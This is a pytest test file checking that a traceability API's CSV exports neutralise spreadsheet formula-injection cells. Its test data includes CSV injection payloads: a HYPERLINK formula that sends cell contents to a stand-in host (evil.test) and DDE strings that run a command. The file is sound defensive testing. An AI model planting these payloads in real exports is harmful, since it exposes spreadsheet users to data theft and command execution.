"""CSV cells a spreadsheet would run are neutralised (OWASP CSV Injection, issue 13): every
CSV the API writes goes through `trace_api.csv_cells.csv_writer`."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from tests.trace_api.audit.builders import FARM, at, harvest, ms
from tests.trace_api.audit.harness import AuditWorld
from trace_api.app import create_app
from trace_api.audit.export.kde import COLUMNS
from trace_api.auth import Principal, Role
from trace_api.auth.dependencies import current_principal
from trace_api.csv_cells import FORMULA_PREFIXES, csv_writer, neutralise_cell
from trace_api.provenance.impact import Impact, ImpactEntry, format_impact_csv

REGULATOR = Principal(role=Role.REGULATOR, subject="inspector-7", via="oidc")
DANGEROUS = {
    "=": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
HARMLESS = ["Apples, Fuji", "1+1", "a=b", "'quoted", "", "  =spaced"]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_every_formula_prefix_is_covered() -> None:
    assert set(DANGEROUS) == set(FORMULA_PREFIXES)


def test_csv_formula_cells_are_neutralised(world: AuditWorld) -> None:
    """A record whose description carries each dangerous prefix, exported by the route and
    read back as a spreadsheet would read the file."""
    bodies = [harvest(at(1 + day), lot=f"urn:epc:class:lgtin:9506000.134352.L{day}",
                      **{"tl:productDescription": text})
              for day, text in enumerate([*DANGEROUS.values(), *HARMLESS])]
    world.add(FARM, bodies, [ms(1 + day, 9) for day in range(len(bodies))])
    app = create_app(world.ctx.settings, context=world.ctx)
    app.dependency_overrides[current_principal] = lambda: REGULATOR
    with TestClient(app) as client:
        response = client.get("/v1/audit/export", params={"format": "csv"})
    assert response.status_code == 200, response.text
    table = _read(response.content.decode("utf-8"))
    assert table[0] == list(COLUMNS)
    descriptions = [row[COLUMNS.index("product_description")] for row in table[1:]]
    assert descriptions == ["'" + text for text in DANGEROUS.values()] + HARMLESS
    for row in table[1:]:
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row), row


def test_numbers_stay_numbers_and_text_is_otherwise_untouched() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([-5, -2.5, 0, "-5", "=1", "x"])
    assert out.getvalue() == "-5,-2.5,0,'-5,'=1,x\r\n"
    assert [neutralise_cell(value) for value in (None, 3, "ok")] == [None, 3, "ok"]


@pytest.mark.parametrize("text", list(DANGEROUS.values()))
def test_recall_impact_csv_neutralises_identifiers(text: str) -> None:
    impact = Impact(start="x", entries=[ImpactEntry("place", text, 1)], truncated=False,
                    truncation_reason=None)
    table = _read(format_impact_csv(impact))
    assert table == [["category", "id", "depth"], ["place", "'" + text, "1"]]
